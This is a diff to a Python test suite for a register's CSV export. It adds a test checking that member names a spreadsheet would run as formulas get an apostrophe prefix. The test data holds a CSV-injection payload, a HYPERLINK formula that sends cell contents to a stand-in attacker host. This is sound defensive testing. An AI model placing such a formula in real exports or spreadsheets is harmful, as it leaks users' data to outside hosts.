@@ -270,6 +270,16 @@ def test_csv_names_follow_the_readers_language(client, register, settings):
     assert "ТОО «Бета»" in text and "Наука" in text and "Beta LLP" not in text
 
 
+def test_csv_export_neutralises_names_a_spreadsheet_would_run_as_formulas(client, ref):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
+    member(ref, "ТОО «Альфа»", name_en=hostile)
+    member(ref, "ТОО «Бета»", name_en="@SUM(1+1)")
+    member(ref, "ТОО «Гамма»", name_en="-2+3")
+    text = streamed(client.get("/register/export.csv", {"sort": "number"}))
+    names = [row[1] for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))][1:]
+    assert names == ["'" + hostile, "'@SUM(1+1)", "'-2+3"]
+
+
 def test_json_export_has_count_and_results_without_iin(client, register):
     response = client.get("/register/export.json", {"category": "startup", "sort": "-number"})
     assert response.status_code == 200
